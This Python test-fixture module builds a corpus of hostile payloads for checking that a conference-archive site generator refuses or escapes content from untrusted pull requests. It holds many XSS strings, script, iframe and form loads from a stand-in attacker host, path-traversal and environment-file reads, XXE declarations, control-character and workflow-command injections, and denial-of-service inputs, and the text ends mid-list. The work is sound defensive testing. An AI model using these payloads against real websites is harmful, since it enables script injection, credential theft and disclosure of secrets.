r"""What an attacker would send: a corpus of payloads for every test of what reads or shows an edition.

A pull request of a stranger holds an edition; each payload is such an edition, or a change to the record's other files.
Its marker is a word of its own that must not come alive: not run, not fetched, not hidden from readers. A file outside
the archive (`SECRET`) and a variable of the environment (`SECRET_VARIABLE`) must appear in no output.

    for payload in PAYLOADS: place = payload.write(tmp_path)

Names, places and hosts are invented.
"""

from __future__ import annotations

import enum
import os
from collections.abc import Callable, Mapping
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

from fabricate import SERIES, write, yaml_text

SECRET = "tidepoolsecret"  #: the word in the file outside; no output may hold it
SECRET_VARIABLE = "CFP_TEST_SECRET"  #: name of a variable of the environment that tests set to the word
KEY = "2021"  #: of the edition that a payload is written into
HOST = "evil.example"  #: no request may go there


class Expected(enum.Enum):
    """What must become of a payload."""

    REFUSED = "a problem that names the file and the line, and nothing of it alive in any output"
    TEXT = "no problem is needed; readers see the words as they are written"


Files = Callable[[Path, Path], None]  #: given the edition's folder and the file outside


@dataclass(frozen=True, kw_only=True)
class Payload:
    """One attack. Texts hold ``MARK`` for the marker and ``OUTSIDE`` for the absolute path of the file outside."""

    name: str
    expected: Expected = Expected.REFUSED
    body: str = ""  #: at the end of index.md
    front: str = ""  #: lines of its front matter; those of a title, sources stand for the usual ones
    page: str = ""  #: text of a further page beside it, more.md
    series: str = ""  #: lines of series.yaml
    people: str = ""  #: text of people.yaml
    decisions: str = ""  #: text of decisions.yaml
    topics: str = ""  #: text of topics.yaml
    source: str | None = None  #: the text as received. Default: the words of the page, as written.
    files: Files | None = field(default=None, compare=False)  #: puts further files into place

    @property
    def marker(self) -> str:
        """The word that must not come alive."""
        return "alive" + self.name.replace("-", "")

    @property
    def is_edition(self) -> bool:
        """Whether it is an edition of its own, so that many can be put into one archive."""
        return self.file.startswith(KEY) and self.files is not _series_link

    @property
    def is_large(self) -> bool:
        """Whether it is large, so that tests of other things leave it out."""
        return self in _BOUNDS

    @property
    def file(self) -> str:
        """Where it goes, relative to the folder of editions."""
        for name in ("series", "people", "decisions", "topics"):
            if getattr(self, name):
                return f"{name}.yaml"
        if self.page:
            return f"{KEY}/more.md"
        return f"{KEY}/index.md" if self.body or self.front else KEY

    def filled(self, text: str, outside: Path) -> str:
        """Return a text with the marker and the path in it."""
        return text.replace("MARK", self.marker).replace("OUTSIDE", str(outside))

    def write(self, folder: Path) -> Written:
        """Write an archive that holds this payload alone, beside a sound edition, into ``folder/editions``."""
        outside = write_secret(folder)
        editions = folder / "editions"
        editions.mkdir(parents=True)
        base = yaml_text(_without(SERIES, self.series))
        write(editions / "series.yaml", base + self.filled(self.series, outside))
        for name in ("people", "decisions", "topics"):
            if getattr(self, name):
                write(editions / f"{name}.yaml", self.filled(getattr(self, name), outside))
        _write_edition(editions / "2019", "TideComp 2019", ("Tidal scheduling", "Moon-aware storage"))
        lines = self.write_edition(editions / KEY, outside)
        if self.file.endswith(".yaml"):
            own: str = getattr(self, self.file.removesuffix(".yaml"))
            first = base.count("\n") + 1 if self.series else 1
            lines = range(first, first + own.count("\n") + 1)
        return Written(folder=editions, file=self.file, lines=lines, outside=outside)

    def write_edition(self, folder: Path, outside: Path) -> range:
        """Write the edition alone.

        :returns: the lines of index.md (or more.md) that hold the payload, 1-based.
        """
        folder.mkdir(parents=True, exist_ok=True)
        title = f"TideComp {folder.name}"
        usual = {"title": title, "sources": [{"file": "source.txt", "url": "https://mail.example/archive/1"}]}
        front = yaml_text(_without(usual, self.front)) + self.filled(self.front, outside)
        body = self.filled(self.body, outside)
        text = f"{_page(title, TOPICS)}\n{body}\n"
        text = f"---\n{front}---\n\n{text}"
        write(folder / "index.md", text)
        source = self.source if self.source is not None else body
        write(folder / "source.txt", _source(title, TOPICS) + self.filled(source, outside) + "\n")
        if self.page:
            write(folder / "more.md", self.filled(self.page, outside))
        if self.files:
            self.files(folder, outside)
        if self.page:
            return range(1, self.page.count("\n") + 2)
        own = self.filled(self.front, outside) if self.front else body
        if not own:
            return range(2)
        first = text[: text.index(own)].count("\n") + 1
        return range(first, first + own.count("\n") + 1)


@dataclass(frozen=True, kw_only=True)
class Written:
    """Where a payload has been put."""

    folder: Path  #: of the editions
    file: str  #: that the payload is in, relative to the folder
    lines: range  #: of that file, 1-based; 0 for the whole of it
    outside: Path  #: the file that nothing may show


TOPICS = ("Tidal scheduling", "Moon-aware storage and caching")


def write_secret(folder: Path) -> Path:
    """Write the file outside: beside the folders of editions and of the site."""
    outside = folder / "outside" / "secret.txt"
    outside.parent.mkdir(parents=True, exist_ok=True)
    write(outside, f"{SECRET} kept by the machine that builds\n")
    return outside


def write_all(folder: Path, payloads: tuple[Payload, ...] | None = None) -> dict[str, Payload]:
    """Write the payloads that are editions into one archive, ``folder/editions``, with an edition for each.

    :returns: the payloads by the key of their edition.
    """
    outside = write_secret(folder)
    editions = folder / "editions"
    editions.mkdir(parents=True, exist_ok=True)
    write(editions / "series.yaml", yaml_text(SERIES))
    _write_edition(editions / "2019", "TideComp 2019", ("Tidal scheduling", "Moon-aware storage"))
    chosen = [one for one in (PAYLOADS if payloads is None else payloads) if one.is_edition]
    by_key = {}
    for one in chosen:
        key = f"{KEY}-{one.name}"
        if not all(part[:1].isalpha() for part in one.name.split("-")):  # the rule for keys
            key = f"{KEY}-{one.name.replace('-', '')}"
        by_key[key] = one
        one.write_edition(editions / key, outside)
    return by_key


def _write_edition(folder: Path, title: str, topics: tuple[str, ...]) -> None:
    folder.mkdir(parents=True)
    front = yaml_text({"title": title, "sources": [{"file": "source.txt"}]})
    write(folder / "index.md", f"---\n{front}---\n\n{_page(title, topics)}")
    write(folder / "source.txt", _source(title, topics))


def _page(title: str, topics: tuple[str, ...]) -> str:
    bullets = "\n".join(f"- {one}" for one in topics)
    return f"# {title}\n\nWe invite papers on:\n\n:::{{topics}} areas\n{bullets}\n:::\n"


def _source(title: str, topics: tuple[str, ...]) -> str:
    return "\n".join([title, "", "We invite papers on:", "", *(f"- {one}" for one in topics), "", ""])


def _without(fields: Mapping[str, Any], lines: str) -> dict[str, Any]:
    """Leave out what the lines of YAML give anew."""
    return {name: value for name, value in fields.items() if f"\n{name}:" not in f"\n{lines}"}


# -- Bodies ----------------------------------------------------------------------------------------------------------

_SCRIPT = "<script>alert('MARK')</script>"
_IMAGE = "<img src=x onerror=\"alert('MARK')\">"

#: Raw HTML, as a block or within a line. All of it is refused, and shown as the characters that it is written with.
_HTML: dict[str, str] = {
    "script-block": _SCRIPT,
    "script-upper": "<ScRiPt>alert('MARK')</sCrIpT>",
    "script-lines": "<script\n>\nalert('MARK')\n\n</script\n>",
    "script-inline": f"Words {_SCRIPT} go on.",
    "script-remote": "<script src=https://evil.example/MARK.js></script>",
    "script-unclosed": "Words <script src=//evil.example/MARK.js>",
    "image-onerror": f"Words {_IMAGE} go on.",
    "image-onerror-block": _IMAGE,
    "svg-onload": "<svg onload=\"alert('MARK')\"><circle r=9></circle></svg>",
    "svg-script": "<svg><script>alert('MARK')</script></svg>",
    "math-href": "<math><maction xlink:href=\"javascript:alert('MARK')\">x</maction></math>",
    "iframe": '<iframe src="https://evil.example/MARK"></iframe>',
    "iframe-srcdoc": "<iframe srcdoc=\"<script>parent.alert('MARK')</script>\"></iframe>",
    "object": '<object data="https://evil.example/MARK.swf"></object>',
    "embed": '<embed src="https://evil.example/MARK.swf">',
    "style-block": "<style>body { background: url(https://evil.example/MARK.png) }</style>",
    "style-import": "<style>@import 'https://evil.example/MARK.css';</style>",
    "link-sheet": '<link rel="stylesheet" href="https://evil.example/MARK.css">',
    "meta-refresh": '<meta http-equiv="refresh" content="0;url=https://evil.example/MARK">',
    "base": '<base href="https://evil.example/MARK/">',
    "form": '<form action="https://evil.example/MARK"><input name=password><button>Go</button></form>',
    "video": '<video src="https://evil.example/MARK.mp4" autoplay></video>',
    "details-ontoggle": "<details open ontoggle=\"alert('MARK')\"><summary>More</summary></details>",
    "anchor-javascript": "See <a href=\"javascript:alert('MARK')\">the call</a>.",
    "anchor-data": 'See <a href="data:text/html,<script>alert(1)</script>">MARK</a>.',
    "span-hidden": 'See <span style="display:none">MARK</span> below.',
    "span-transparent": 'See <span style="opacity:0;font-size:0">MARK</span> below.',
    "div-hidden": "<div hidden>MARK</div>",
    "div-hidden-lines": "<div hidden>\n\nMARK is what nobody reads.\n\n</div>",
    "details-closed": "<details><summary>More</summary>\n\nMARK\n\n</details>",
    "template": "<template>MARK</template>",
    "noscript": "<noscript>MARK</noscript>",
    "textarea": "<textarea>\n\nMARK",
    "plaintext": "<plaintext>\n\nMARK",
    "comment": "<!-- MARK -->",
    "comment-inline": "Words <!-- MARK --> go on.",
    "comment-open": "<!-- MARK",
    "cdata": "<![CDATA[ MARK ]]>",
    "processing": "<?php echo 'MARK'; ?>",
    "declaration": "<!DOCTYPE html [<!ENTITY MARK SYSTEM 'file:///etc/hostname'>]>",
    "close-article": "Words </article></main></body> MARK",
    "clobber-form": '<form id="documentOptions" name="DOCUMENTATION_OPTIONS">MARK</form>',
    "in-heading": f"## Scope {_IMAGE}",
    "in-heading-lines": f"Scope {_IMAGE}\n===",
    "in-emphasis": f"Words *{_IMAGE}* go on.",
    "in-link": f"[{_IMAGE}](https://tidecomp.example/)",
    "in-quote": f"> {_SCRIPT}",
    "in-list": f"1. Words {_IMAGE}",
    "in-list-block": f"- Words\n\n  {_SCRIPT}",
    "in-topic": f":::{{topics}} more\n- Kelp {_IMAGE}\n:::",
    "in-topic-block": f":::{{topics}} more\n- Kelp\n\n  {_SCRIPT}\n:::",
    "in-topic-nested": f":::{{topics}} more\n- Kelp\n  - Foam {_IMAGE}\n:::",
    "in-topic-title": f":::{{topics}} more\n- **Kelp {_IMAGE}**: grows.\n:::",
    "in-topic-hidden": ':::{topics} more\n- Kelp <b style="display:none">MARK</b>\n:::',
    "in-table": f"| a | b |\n| - | - |\n| x | {_IMAGE} |",
    "in-note": f":::{{archive-note}}\nSee {_IMAGE}.\n:::",
    "in-note-block": f":::{{archive-note}}\n{_SCRIPT}\n:::",
}

#: Constructs of MyST, Sphinx and sphinx-design that read files, run, hide, or show words that the page does not hold.
_DIRECTIVES: dict[str, str] = {
    "raw": "```{raw} html\n<script>alert('MARK')</script>\n```",
    "raw-colons": ":::{raw} html\n<script>alert('MARK')</script>\n:::",
    "raw-tildes": "~~~{raw} html\n<script>alert('MARK')</script>\n~~~",
    "raw-upper": "```{RAW} html\n<script>alert('MARK')</script>\n```",
    "raw-spaces": "``` {raw}   html\n<script>alert('MARK')</script>\n```",
    "raw-latex": "```{raw} latex\n\\input{OUTSIDE}\n```",
    "raw-file": "```{raw} html\n:file: ../../outside/secret.txt\n```",
    "raw-url": "```{raw} html\n:url: file://OUTSIDE\n```",
    "raw-environment": "```{raw} html\n:url: file:///proc/self/environ\n```",
    "raw-in-note": "::::{archive-note}\n:::{raw} html\n<script>alert('MARK')</script>\n:::\n::::",
    "raw-in-admonition": "::::{note}\n:::{raw} html\n<script>alert('MARK')</script>\n:::\n::::",
    "raw-in-topic": "::::{topics} more\n- Kelp\n\n  :::{raw} html\n  <script>alert('MARK')</script>\n  :::\n::::",
    "raw-in-quote": "> ```{raw} html\n> <script>alert('MARK')</script>\n> ```",
    "raw-in-list": "- Words\n\n  ```{raw} html\n  <script>alert('MARK')</script>\n  ```",
    "eval-rst": "```{eval-rst}\n.. raw:: html\n\n   <script>alert('MARK')</script>\n```",
    "eval-rst-words": "```{eval-rst}\nMARK is a word that no source has.\n```",
    "eval-rst-include": "```{eval-rst}\n.. include:: OUTSIDE\n```",
    "eval-rst-url": "```{eval-rst}\n.. raw:: html\n   :url: file:///proc/self/environ\n```",
    "eval-rst-role": "```{eval-rst}\n.. role:: danger(raw)\n   :format: html\n\n:danger:`<img src=x onerror=alert('MARK')>`\n```",
    "eval-rst-link": "```{eval-rst}\n`MARK <javascript:alert(1)>`_\n```",
    "include": "```{include} ../../outside/secret.txt\n```",
    "include-absolute": "```{include} OUTSIDE\n```",
    "include-root": "```{include} /../outside/secret.txt\n```",
    "include-own-source": "```{include} source.txt\n```",
    "include-literal": "```{include} ../../outside/secret.txt\n:literal:\n```",
    "literalinclude": "```{literalinclude} ../../outside/secret.txt\n```",
    "literalinclude-conf": "```{literalinclude} /conf.py\n```",
    "literalinclude-environment": "```{literalinclude} /../../../../../../../../proc/self/environ\n```",
    "csv-file": "```{csv-table}\n:file: ../../outside/secret.txt\n```",
    "csv-url": "```{csv-table}\n:url: file://OUTSIDE\n```",
    "csv-remote": "```{csv-table}\n:url: https://evil.example/MARK.csv\n```",
    "figure": "```{figure} ../../outside/secret.txt\nMARK\n```",
    "figure-remote": "```{figure} https://evil.example/MARK.png\n```",
    "figure-target": "```{figure} shore.png\n:target: javascript:alert('MARK')\n```",
    "image": "```{image} ../../outside/secret.txt\n```",
    "image-alt": "```{image} shore.png\n:alt: x\" onerror=\"alert('MARK')\n```",
    "only": "```{only} latex\nMARK is read by nobody on the web.\n```",
    "only-html": "```{only} html\nMARK\n```",
    "toctree": "```{toctree}\n../../outside/secret\n```",
    "toctree-link": "```{toctree}\nMARK <javascript:alert(1)>\n```",
    "toctree-glob": "```{toctree}\n:glob:\n:hidden:\n\n/**\n```",
    "meta": "```{meta}\n:http-equiv=refresh: 0;url=https://evil.example/MARK\n```",
    "math": "```{math}\n\\href{javascript:alert('MARK')}{x}\n```",
    "math-fence": "```math\n\\href{javascript:alert('MARK')}{x}\n```\n\n```{math}\nx\n```",
    "container-hidden": "```{container} d-none sd-d-none\nMARK\n```",
    "class-hidden": "```{rst-class} d-none\n```\n\nMARK",
    "div-hidden": ":::{div} d-none\nMARK\n:::",
    "colons-hidden": "::: d-none\nMARK\n:::",
    "note-class": "```{note}\n:class: d-none\nMARK\n```",
    "note": "```{note}\nMARK\n```",
    "dropdown": "```{dropdown} More\nMARK\n```",
    "tabs": "::::{tab-set}\n:::{tab-item} One\nwords\n:::\n:::{tab-item} Two\nMARK\n:::\n::::",
    "card-link": "```{card} Kelp\n:link: javascript:alert('MARK')\nwords\n```",
    "button-link": "```{button-link} javascript:alert('MARK')\nPress\n```",
    "button-tooltip": "```{button-link} https://tidecomp.example/\n:tooltip: MARK\nPress\n```",
    "parsed-literal": "```{parsed-literal}\n`MARK <javascript:alert(1)>`_\n```",
    "code-directive": "```{code-block} html\n:caption: MARK\n<b>\n```",
    "index": "```{index} MARK\n```",
    "role-raw": "```{role} danger(raw)\n:format: html\n```\n\n{danger}`<img src=x onerror=alert('MARK')>`",
    "default-role": "```{default-role} raw\n```",
    "unicode": "```{unicode} MARK U+202E\n```",
    "date": "```{date} MARK\n```",
    "header": "```{header}\nMARK\n```",
    "contents": "```{contents} MARK\n```",
    "sidebar": "```{sidebar} MARK\nwords\n```",
    "glossary": "```{glossary}\nMARK\n  words\n```",
    "py-module": "```{py:module} MARK\n```",
    "py-function": "```{py:function} MARK()\nwords\n```",
    "default-domain": "```{default-domain} py\n```",
    "graphviz": "```{graphviz} ../../outside/secret.txt\n```",
    "list-table": "```{list-table} MARK\n* - a\n```",
    "figure-md": ":::{figure-md}\n![MARK](../../outside/secret.txt)\n\nwords\n:::",
    "unknown": "```{teleport} MARK\n```",
    "generated-view": "```{comparison} 2019-2021\n```",
    "generated-head": "```{edition-head} 2019\n```",
    "generated-domain": "```{cfp:person} bo-finn\n```",
    "topics-options": ":::{topics} more\n:class: d-none\n:name: MARK\n- Kelp\n:::",
    "topics-hidden-argument": ':::{topics} more" onclick="alert(1)\n- MARK\n:::',
    "dates-options": ":::{key-dates}\n:class: d-none\n:::",
    "deep": "".join(f"{':' * (60 - depth)}{{note}}\n" for depth in range(50)) + "MARK\n",
}

_ROLES: dict[str, str] = {
    "raw": "Words {raw}`<img src=x onerror=alert('MARK')>` go on.",
    "raw-html": "Words {raw-html}`<img src=x onerror=alert('MARK')>` go on.",
    "download": "Words {download}`../../outside/secret.txt` go on.",
    "download-titled": "Words {download}`MARK <../../outside/secret.txt>` go on.",
    "doc": "Words {doc}`/index` go on.",
    "ref": "Words {ref}`MARK <search>` go on.",
    "abbreviation": "Words {abbr}`TC (MARK)` go on.",
    "math": "Words {math}`\\href{javascript:alert('MARK')}{x}` go on.",
    "literal": "Words {literal}`MARK` go on.",
    "sub": "Words {sub}`MARK` go on.",
    "eval": "Words {eval}`MARK` go on.",
    "rfc": "Words {rfc}`1` MARK go on.",
    "envvar": "Words {envvar}`CFP_TEST_SECRET` go on.",
    "icon": "Words {fas}`MARK` go on.",
    "button": "Words {bdg-link-primary}`MARK <javascript:alert(1)>` go on.",
    "index": "Words {index}`MARK` go on.",
    "numref": "Words {numref}`MARK` go on.",
    "domain": "Words {py:func}`MARK` go on.",
    "unknown": "Words {teleport}`MARK` go on.",
    "nested": "Words *{raw}`<img src=x onerror=alert('MARK')>`* go on.",
    "in-topic": ":::{topics} more\n- Kelp {download}`../../outside/secret.txt`\n:::",
    "in-topic-raw": ":::{topics} more\n- Kelp {raw}`<img src=x onerror=alert('MARK')>`\n:::",
    "in-note": ":::{archive-note}\nSee {download}`../../outside/secret.txt`.\n:::",
    "in-table": "| a | b |\n| - | - |\n| x | {download}`../../outside/secret.txt` |",
    "ours-short": "Words {edition}`2019` go on.",
    "ours-nowhere": "Words {topic}`MARK <no-such-topic>` go on.",
}

_LINKS: dict[str, str] = {
    "javascript": "See [the call](javascript:alert('MARK')).",
    "javascript-mixed": "See [the call](JaVaScRiPt:alert('MARK')).",
    "javascript-entity": "See [the call](&#106;avascript:alert('MARK')).",
    "javascript-entity-colon": "See [the call](javascript&colon;alert('MARK')).",
    "javascript-tab": "See [the call](<java&Tab;script:alert('MARK')>).",
    "javascript-newline": "See [the call](<java&NewLine;script:alert('MARK')>).",
    "javascript-space": "See [the call](<&#32;javascript:alert('MARK')>).",
    "javascript-control": "See [the call](<&#1;javascript:alert('MARK')>).",
    "javascript-percent": "See [the call](javascript%3Aalert('MARK')).",
    "javascript-escape": "See [the call](javascript\\:alert('MARK')).",
    "javascript-autolink": "See <javascript:alert('MARK')>.",
    "javascript-reference": "See [the call][MARK].\n\n[MARK]: javascript:alert(1)",
    "javascript-shortcut": "See [MARK].\n\n[MARK]: <javascript:alert(1)>",
    "javascript-picture": "![words](javascript:alert('MARK'))",
    "data": "See [the call](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg== 'MARK').",
    "vbscript": "See [the call](vbscript:msgbox('MARK')).",
    "file": "See [the call](file:///etc/hostname) MARK.",
    "ftp": "See [the call](ftp://evil.example/MARK).",
    "scheme-relative": "See [the call](//evil.example/MARK).",
    "backslashes": "See [the call](<\\\\\\\\evil.example\\\\MARK>).",
    "titled": "See [the call](https://tidecomp.example/ 'MARK').",
    "titled-reference": "See [the call][a].\n\n[a]: https://tidecomp.example/ 'MARK'",
    "titled-breaking": "See [the call](https://tidecomp.example/ '\" onmouseover=\"alert(MARK)').",
    "empty": "See [](https://evil.example/MARK).",
    "outside": "See [the call](../../outside/secret.txt) MARK.",
    "outside-absolute": "See [the call](OUTSIDE) MARK.",
    "outside-root": "See [the call](/../outside/secret.txt) MARK.",
    "outside-encoded": "See [the call](..%2F..%2Foutside%2Fsecret.txt) MARK.",
    "configuration": "See [the call](/conf.py) MARK.",
    "configuration-relative": "See [the call](../../docs/conf.py) MARK.",
    "git": "See [the call](../../.git/config) MARK.",
    "path": "See [the call](path:../../outside/secret.txt) MARK.",
    "path-auto": "See <path:../../outside/secret.txt> MARK.",
    "project": "See <project:#search> MARK.",
    "inventory": "See <inv:python#MARK>.",
    "inventory-glob": "See [](inv:*:*:*#MARK).",
    "nowhere": "See [the call](../1999/index.md) MARK.",
    "nowhere-anchor": "See [the call](#no-such-heading) MARK.",
    "in-topic": ":::{topics} more\n- Kelp [words](javascript:alert('MARK'))\n:::",
    "in-note": ":::{archive-note}\nSee [words](javascript:alert('MARK')).\n:::",
    "in-footnote": "Words.[^one]\n\n[^one]: See [words](javascript:alert('MARK')).",
    "in-definition": "Kelp\n: See [words](javascript:alert('MARK')).",
    "in-table": "| a |\n| - |\n| [words](javascript:alert('MARK')) |",
    "picture-outside": "![MARK](../../outside/secret.txt)",
    "picture-outside-png": "![MARK](../../outside/secret.png)",
    "picture-absolute": "![MARK](OUTSIDE)",
    "picture-remote": "![MARK](https://evil.example/MARK.png)",
    "picture-scheme-relative": "![MARK](//evil.example/MARK.png)",
    "picture-data": "![MARK](data:image/svg+xml;base64,PHN2Zy8+)",
    "picture-titled": "![words](shore.png 'MARK')",
    "picture-none": "![MARK](no-such-picture.png)",
    "picture-glob": "![MARK](../../outside/secret.*)",
    "picture-reference": "![MARK][a]\n\n[a]: https://evil.example/MARK.png",
}

#: What MyST, or one of its extensions, would make more of than words.
_SYNTAX: dict[str, str] = {
    "target": "(MARK)=\n\nWords.",
    "division": "+++ MARK",
    "division-only": "Words\n\n+++\n\nMARK",
}


def _bodies(group: str, bodies: Mapping[str, str]) -> list[Payload]:
    return [Payload(name=f"{group}-{name}", body=body) for name, body in bodies.items()]


#: Words that look dangerous and are words: readers see them as they are written.
_WORDS = (
    Payload(name="text-generics", body="C++ and \\<T> generics, a < b > c, R&D MARK"),
    Payload(name="text-code", body="Write `<script>alert('MARK')</script>` and `{raw}` as code."),
    Payload(name="text-fence", body="```\n<script>alert('MARK')</script>\n```"),
    Payload(name="text-fence-named", body="```html\n<script>alert('MARK')</script>\n```"),
    Payload(name="text-entities", body="&lt;script&gt;alert('MARK')&lt;/script&gt;"),
    Payload(name="text-escaped", body="\\<script>alert('MARK')\\</script>"),
    Payload(name="text-no-tag", body="Words <img/src=x/onerror=alert('MARK')> go on."),
    Payload(name="text-attributes", body="{.d-none #MARK}\nWords that nobody reads."),
    Payload(name="text-private", body="Words MA\ue000RK go on."),
    Payload(name="text-constructor", body="## constructor\n\nMARK"),
    Payload(name="text-proto", body="## __proto__\n\nMARK\n\n## documentation options\n\n## cfp-search"),
    Payload(name="text-rst", body=".. raw:: html MARK |secret| `x`_ :download:\\`y\\`"),
    Payload(name="text-template", body="{% raw %} {{ MARK }} ${MARK} #{MARK} {{7*7}}"),
    Payload(name="text-math", body="From $5 to $10: $\\href{javascript:alert('MARK')}{x}$"),
    Payload(name="text-mention", body="@everyone :tada: #1 GH-1 MARK"),
    Payload(name="text-workflow", body="::error file=x::MARK %0A%0D"),
    Payload(name="text-formula", body=":::{topics} more\n- =HYPERLINK(\"https://evil.example/MARK\")\n:::"),
    Payload(name="text-arabic", body=":::{topics} more\n- شبكات عصبية MARK\n- क्षेत्र 👩‍🔬 می‌خواهم\n:::"),
)  # fmt: skip

_LONG = 20_000

_BOUNDS = (
    Payload(name="long-word", body=f"MARK{'x' * _LONG}", expected=Expected.TEXT),
    Payload(
        name="long-topic", body=f":::{{topics}} more\n- {'MARK ' * _LONG}\n:::", expected=Expected.REFUSED
    ),
    Payload(
        name="many-topics",
        body=":::{topics} more\n" + "".join(f"- MARK {one}\n" for one in range(_LONG)) + ":::",
        expected=Expected.REFUSED,
    ),
    Payload(name="deep-quotes", body=f"{'> ' * 400}MARK", expected=Expected.REFUSED),
    Payload(
        name="deep-lists",
        body="\n".join(f"{'  ' * depth}- MARK {depth}" for depth in range(200)),
        expected=Expected.REFUSED,
    ),
    Payload(
        name="deep-topics",
        body=":::{topics} more\n"
        + "\n".join(f"{'  ' * depth}- MARK {depth}" for depth in range(200))
        + "\n:::",
        expected=Expected.REFUSED,
    ),
    Payload(name="many-brackets", body=f"{'[' * _LONG}MARK", expected=Expected.TEXT),
    Payload(name="many-stars", body=f"{'*a ' * 4_000}MARK", expected=Expected.TEXT),
    Payload(name="many-ticks", body=" ".join("`" * one for one in range(1, 200)), expected=Expected.TEXT),
    Payload(name="many-bytes", body="MARK kelp\n" * 400_000, expected=Expected.REFUSED),
)

#: Invisible and misleading characters in the words of a page; names say which.
_CHARACTERS: dict[str, str] = {
    "bidi-override": "\u202e",
    "bidi-isolate": "\u2066",
    "bidi-mark": "\u061c",
    "zero-width-space": "\u200b",
    "word-joiner": "\u2060",
    "byte-order": "\ufeff",
    "tag": "\U000e0041",
    "escape": "\x1b[31m",
    "csi": "\x9b31m",
    "bell": "\x07",
    "delete": "\x7f",
    "null": "\x00",
    "line-separator": "\u2028",
    "hangul-filler": "\u3164",
    "interlinear": "\ufff9",
}  # fmt: skip

_UNICODE = tuple(
    Payload(name=f"unicode-{name}", body=f"Words MA{sign}RK{sign} MARK go on.")
    for name, sign in _CHARACTERS.items()
)


# -- Facts: text in every field that is shown somewhere ----------------------------------------------------------------

_X = "<img src=x onerror=alert('MARK')>"
_BREAKS = "\\\"><script>alert('MARK')</script>"
_FIELDS: dict[str, str] = {
    "title": 'title: "HERE"',
    "title-end-script": "title: \"</script></title><script>alert('MARK')</script>\"",
    "title-generics": 'title: "C++ and <T> generics MARK"',
    "title-template": 'title: "{{ 7*7 }} {% raw %} MARK"',
    "short-title": 'short_title: "HERE"',
    "place": 'place: "HERE"',
    "host-name": 'host: {name: "HERE", place: "HERE", date: 2021-05-17}',
    "role": 'people:\n  - {role: "HERE", name: Bo Finn}',
    "name": 'people:\n  - {role: General Chair, name: "HERE"}',
    "affiliation": 'people:\n  - {role: General Chair, name: Bo Finn, affiliation: "HERE", country: "HERE"}',
    "person-note": 'people:\n  - {role: General Chair, name: Bo Finn, note: "HERE"}',
    "person-printed": 'people:\n  - {role: General Chair, name: Bo Finn, printed: "Bo Finn, HERE"}',
    "label": 'key_dates:\n  - {label: "HERE", date: 2021-02-01}',
    "zone": 'key_dates:\n  - {label: Paper Submission, date: 2021-02-01, zone: "HERE"}',
    "date-printed": 'key_dates:\n  - {label: Paper Submission, date: 2021-02-01, printed: "HERE"}',
    "date-line": 'key_dates:\n  - {label: Paper Submission, date: 2021-02-01, line: "HERE"}',
    "category": 'submissions:\n  - {category: "HERE", pages: 8}',
    "limit": 'submissions:\n  - {category: Papers, printed: "HERE"}',
    "published": 'sources:\n  - {file: source.txt, published: "HERE"}',
    "reason": 'differences:\n  - {page: "Words", reason: "HERE"}',
    "silent": 'silent_on: ["HERE"]',
}
#: Placed by its directive, so that it is shown among the call's words, too.
_PLACED = {
    "role": ':::{people} HERE\n:::',
    "name": ":::{people} General Chair\n:::",
    "affiliation": ":::{people} General Chair\n:::",
    "person-printed": ":::{people} General Chair\n:::",
    "label": ":::{key-dates}\n:::",
    "date-printed": ":::{key-dates}\n:::",
    "date-line": ":::{key-dates}\n:::",
    "category": ":::{submissions}\n:::",
    "limit": ":::{submissions}\n:::",
}  # fmt: skip

_FACTS = tuple(
    Payload(
        name=f"field-{name}{suffix}",
        front=front.replace("HERE", text) + "\n",
        body=_PLACED.get(name, "").replace("HERE", text.replace('\\"', '"')),
        expected=Expected.TEXT,
    )
    for name, front in _FIELDS.items()
    for suffix, text in (("", _X), ("-breaking", _BREAKS))
    if suffix == "" or "HERE" in front
)

_FACTS_REFUSED = tuple(
    Payload(name=f"fact-{name}", front=front + "\n")
    for name, front in {
        "website-javascript": "website: \"javascript:alert('MARK')\"",
        "website-data": 'website: "data:text/html,MARK"',
        "website-spaces": "website: \"https://tidecomp.example/ onclick=alert('MARK')\"",
        "website-control": 'website: "https://tidecomp.example/\\e[31mMARK"',
        "website-lines": 'website: "https://tidecomp.example/\\njavascript:MARK"',
        "source-url-javascript": 'sources:\n  - {file: source.txt, url: "javascript:MARK"}',
        "host-source-javascript": 'host: {name: Coasts, source: "javascript:MARK"}',
        "title-control": 'title: "TideComp \\e[31mMARK"',
        "title-lines": 'title: "TideComp\\n::error file=x::MARK"',
        "title-return": 'title: "TideComp\\rMARK"',
        "title-bidi": 'title: "TideComp \\u202EMARK"',
        "title-zero-width": 'title: "Tide\\u200BComp MARK"',
        "title-null": 'title: "TideComp \\0MARK"',
        "title-tag": 'title: "TideComp \\U000E0041MARK"',
        "title-surrogate": 'title: "TideComp \\uD800MARK"',
        "title-long": f'title: "TideComp MARK {"x" * _LONG}"',
        "name-control": 'people:\n  - {role: General Chair, name: "Bo\\x9b31m Finn MARK"}',
        "name-bidi": 'people:\n  - {role: General Chair, name: "Bo \\u2067Finn MARK"}',
        "name-lines": 'people:\n  - {role: General Chair, name: "Bo\\n\\n# Finn MARK"}',
        "role-bidi": 'people:\n  - {role: "General \\u202E Chair", name: Bo Finn}',
        "label-control": 'key_dates:\n  - {label: "Papers \\a MARK", date: 2021-02-01}',
        "myst": "myst:\n  enable_extensions: [html_image, substitution, attrs_block]",
        "myst-substitutions": 'myst:\n  substitutions: {secret: "MARK"}',
        "myst-meta": "myst:\n  html_meta: {refresh: MARK}",
        "html-meta": "html_meta: {description: MARK}",
        "orphan": "orphan: true",
        "tocdepth": "tocdepth: 1",
        "unknown-field": "onload: alert('MARK')",
        "field-markup": "\"<img src=x onerror=alert('MARK')>\": 1",
        "field-lines": '"a\\n::error::MARK": 1',
        "ordinal-huge": "ordinal: 999999999999",
        "ordinal-digits": f"ordinal: {'9' * 500_000}",
        "ordinal-infinite": "ordinal: .inf",
        "time": 'key_dates:\n  - {label: Papers MARK, date: 2021-02-01, time: "25:99"}',
        "zone-unknown": "key_dates:\n  - {label: Papers MARK, date: 2021-02-01, zone: ../../etc/passwd}",
        "date-year": "date: 0001-01-01",
        "date-number": "date: 20210521",
        "source-outside": "sources:\n  - {file: ../../outside/secret.txt}",
        "source-absolute": "sources:\n  - {file: OUTSIDE}",
        "source-url-file": 'sources:\n  - {file: source.txt, url: "file:///etc/hostname"}',
        "source-device": "sources:\n  - {file: /dev/zero}",
        "source-folder": "sources:\n  - {file: .}",
        "source-backslash": 'sources:\n  - {file: "..\\\\..\\\\outside\\\\secret.txt"}',
        "source-null": 'sources:\n  - {file: "source.txt\\0.png"}',
